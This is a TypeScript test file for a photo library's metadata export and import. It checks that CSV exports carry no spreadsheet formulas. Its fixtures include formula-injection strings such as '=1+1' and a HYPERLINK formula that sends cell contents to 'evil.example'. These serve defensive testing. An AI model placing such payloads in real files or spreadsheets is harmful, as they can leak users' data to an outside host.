import { inEnglish } from '../../../../src-main/contract/sentences/write-text.ts'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { noCounts, type LibraryExportRequest } from '../../../../src-main/contract/library/travel.ts'
import type { PersonChange } from '../../../../src-main/library/catalog/catalog.ts'
import { exportLibrary } from '../../../../src-main/library/transfer/export/export-library.ts'
import { tempFolder } from '../../../fixtures/folders.ts'
import { metadata, saveTags, tag } from '../../catalog/library.ts'
import { openImporting } from './importing.ts'
import { byNight } from '../../../fixtures/night.ts'

type WithoutIds<Change> = Change extends unknown ? Omit<Change, 'ids'> : never
type Work = WithoutIds<PersonChange>

/** A person's work of every kind, in spellings that are hard to write. */
const given: Record<string, Work[]> = {
  'all.jpg': [
    { kind: 'rate', rating: 4 },
    { kind: 'pick', pick: 1 },
    { kind: 'label', label: 'Red' },
    { kind: 'title', text: '=SUM("A1"); <Titel> & „ß“ 😀' },
    { kind: 'caption', text: 'two\nlines,\ta tab; and "quotes"\u2028and\u2029marks\u0085of lines' },
    { kind: 'creator', text: 'Zoë; Ann O’Neil' },
    { kind: 'copyright', text: '© 2024, Zoë' },
    { kind: 'taken-at', takenAt: '1987-06-05T04:03:02+02:00' },
    { kind: 'position', position: { latitude: 48.2081743, longitude: -16.3738189, altitude: 171.5 } },
    {
      kind: 'fields',
      values: {
        headline: '=HYPERLINK("https://evil.example/?"&A1)',
        altText: "'=a <lake>",
        creatorEmail: 'zoe@example.org',
        copyrightStatus: 'public-domain',
        usageTerms: 'ask\n+me;\t =1+1',
        city: 'Wien',
        countryCode: 'AT',
      },
    },
    { kind: 'orientation', orientation: 6 },
    { kind: 'crop', crop: '-0.01,0.2,0.9,0.8,-2.5' },
    { kind: 'add-tag', name: 'sea' },
    { kind: 'add-tag', name: 'Places/Österreich/Wien' },
    { kind: 'add-tag', name: 'Music/AC\\DC' },
    { kind: 'add-tag', name: 'semi; colon, comma "quote"' },
    { kind: 'add-tag', name: 'wine & cheese <3' },
    ...['=1+1', "'=quoted", '-dash', 'a;=1+1', '@home'].map((name) => ({ kind: 'add-tag' as const, name })),
  ],
  'rejected.jpg': [{ kind: 'pick', pick: -1 }],
  'rejected with stars.jpg': [
    { kind: 'pick', pick: -1 },
    { kind: 'rate', rating: 2 },
    { kind: 'label', label: 'To print' },
  ],
  'a/same.jpg': [
    { kind: 'rate', rating: 1 },
    { kind: 'label', label: 'Orange' },
  ],
  'b/same.jpg': [
    { kind: 'rate', rating: 5 },
    { kind: 'label', label: 'Purple' },
  ],
  'over the file.jpg': [
    { kind: 'rate', rating: 2 },
    { kind: 'title', text: 'own' },
    { kind: 'taken-at', takenAt: '2001-02-03T00:00:00' },
    { kind: 'position', position: { latitude: 1.5, longitude: 2.25, altitude: null } },
    { kind: 'fields', values: { city: 'own' } },
    { kind: 'crop', crop: '0,0,0.5,0.5,0' },
    { kind: 'add-tag', name: 'own' },
  ],
  'cleared over the file.jpg': [
    { kind: 'rate', rating: 0 },
    { kind: 'pick', pick: 0 },
  ],
  'plain, "odd".jpg': [],
}
/**
 * Work that only a table and JSON can express: removed or emptied values that the file has, and marks that reveal what
 * they hide.
 */
const takenOff: Work[] = [
  { kind: 'title', text: '' },
  { kind: 'fields', values: { city: '' } },
  { kind: 'position', position: 'nowhere' },
  { kind: 'crop', crop: '' },
  { kind: 'remove-tag', name: 'dog' },
  { kind: 'sensitivity', judgement: 'sensitive' },
  { kind: 'private', isPrivate: true },
]

/** The same photos with the metadata of their files and the engine's tags, in a library without a person's work. */
function openLibrary() {
  const library = openImporting()
  const names = [...Object.keys(given), 'taken off.jpg']
  const ids = new Map(library.add(...names).map((id, place) => [names[place]!, id]))
  const { catalog } = library
  const original = metadata({
    takenAt: '2019-05-12T14:33:12',
    rating: 3,
    title: 'of the file',
    keywords: ['k'],
    city: 'of the file',
    offset: '+09:00',
    latitude: 35,
    longitude: 139,
    label: 'Green',
    pick: 1,
    crop: '0.25,0.25,0.75,0.75,0',
  })
  for (const name of ['over the file.jpg', 'cleared over the file.jpg', 'taken off.jpg']) {
    catalog.files.saveMetadata([{ id: ids.get(name)!, metadata: original, width: 1, height: 1 }])
    saveTags(catalog, ids.get(name)!, tag('dog', 80))
  }
  const shownOf = (except: readonly string[] = []) =>
    Object.fromEntries(
      [...ids].filter(([name]) => !except.includes(name)).map(([name, id]) => [name, library.shown(id)]),
    )
  const apply = (name: string, changes: readonly Work[]) => {
    for (const change of changes) catalog.changes.apply({ ...change, ids: [ids.get(name)!] } as PersonChange)
  }
  return { ...library, ids, shownOf, apply }
}

/** Cells that a spreadsheet would compute, with any separator; numbers are not among them. */
function formulasIn(table: string): string[] {
  const text = readFileSync(table, 'utf8')
  const naive = [';', '\t'].flatMap((separator) => text.split(/\r?\n/).flatMap((line) => line.split(separator)))
  const cells = [...(parse(text, { bom: true }) as string[][]).flat(), ...naive]
  return cells.filter((cell) => /^\s*[=+@＝＋＠－-]/.test(cell) && !/^[-+]?[\d.,:-]+$/.test(cell))
}

test.each(byNight(['json'] as const, ['xmp', 'csv', 'json'] as const))(
  'a library exported as %s and imported over the same photos has all its work again',
  async (format) => {
    const first = openLibrary()
    for (const [name, changes] of Object.entries(given)) first.apply(name, changes)
    first.apply('taken off.jpg', takenOff)
    const folder = tempFolder()
    const request: LibraryExportRequest = { path: join(folder, 'out'), format }
    const { path, notCarriedOver } = await exportLibrary({ catalog: first.catalog }, request)
    expect(
      notCarriedOver.map(
        ({ what, names }) =>
          `${inEnglish(what)}: ${names.map((name) => (typeof name === 'string' ? name : inEnglish(name))).join()}`,
      ),
    ).toEqual(
      format === 'xmp'
        ? [
            '1 mark "private": /photos/taken off.jpg',
            '1 corrected verdict on sensitivity: /photos/taken off.jpg',
            '1 tag that was taken off: /photos/taken off.jpg: dog',
            '2 texts that were emptied: /photos/taken off.jpg: title,/photos/taken off.jpg: city',
            '1 position that was taken off: /photos/taken off.jpg',
          ]
        : [],
    )

    if (format === 'csv') expect(formulasIn(path)).toEqual([])
    const second = openLibrary()
    expect(second.shownOf()).not.toEqual(first.shownOf())
    const report = await second.run(path)
    expect(report).toMatchObject({ source: format, unmatched: [], matchedByLikeness: 0, notCarriedOver: [] })
    // A sidecar has what is there, and not what was removed.
    const except = format === 'xmp' ? ['taken off.jpg'] : []
    expect(second.shownOf(except)).toEqual(first.shownOf(except))
    expect(await second.run(path)).toMatchObject({ changedPhotos: 0, changeId: null })
    await second.changes.undo(report.changeId!)
    expect(second.shownOf()).toEqual(openLibrary().shownOf())
  },
)

test('JSON that is foreign, torn or changed is refused with its line', async () => {
  const { catalog, run } = openLibrary()
  const { path } = await exportLibrary({ catalog }, { path: tempFolder(), format: 'json' })
  const text = readFileSync(path, 'utf8')
  const refused = async (changed: string, message: string) => {
    writeFileSync(path, changed)
    await expect(run(path)).rejects.toMatchObject({ code: 'bad-params', message: expect.stringContaining(message) })
  }
  await refused('{"photos":[]}', 'does not begin as a library that Lumafold exported')
  await refused(text.slice(0, -50), 'lumafold-library.json')
  await refused(text.split('\n').slice(0, 3).join('\n'), 'is not whole: its end is missing')
  await refused(text.replace('"rating":3', '"rating":"3"'), 'has no photo in line 7')
  await refused(text.replace('"rating":3', '"rating":'), 'has no photo in line 7')
})

test("a position and a text equal to the file's change nothing; others are taken, and none is lost", async () => {
  const { add, catalog, run } = openImporting()
  const [a] = add('a.jpg')
  const original = metadata({ latitude: 48.2, longitude: 16.3, altitude: 171, city: 'Wien' })
  catalog.files.saveMetadata([{ id: a!, metadata: original, width: 1, height: 1 }])
  const table = async (position: string, city: string) => {
    const file = join(tempFolder(), 'a.csv')
    writeFileSync(file, `path,position,city\n/photos/a.jpg,"${position}",${city}\n`)
    const { changes, differing } = await run(file)
    const read = catalog.photos.detail(a!).metadata
    return { changes, differing, is: [read.latitude, read.altitude, read.city] }
  }
  // A table without heights removes none.
  expect(await table('48.2,16.3', 'Wien')).toEqual({
    changes: noCounts(),
    differing: noCounts(),
    is: [48.2, 171, 'Wien'],
  })
  expect(await table('48.5,16.3,200', 'Graz')).toMatchObject({
    changes: { ...noCounts(), position: 1, texts: 1 },
    is: [48.5, 200, 'Graz'],
  })
  expect(await table('1,2', 'Linz')).toMatchObject({
    changes: noCounts(),
    differing: { ...noCounts(), position: 1, texts: 1 },
    is: [48.5, 200, 'Graz'],
  })
})
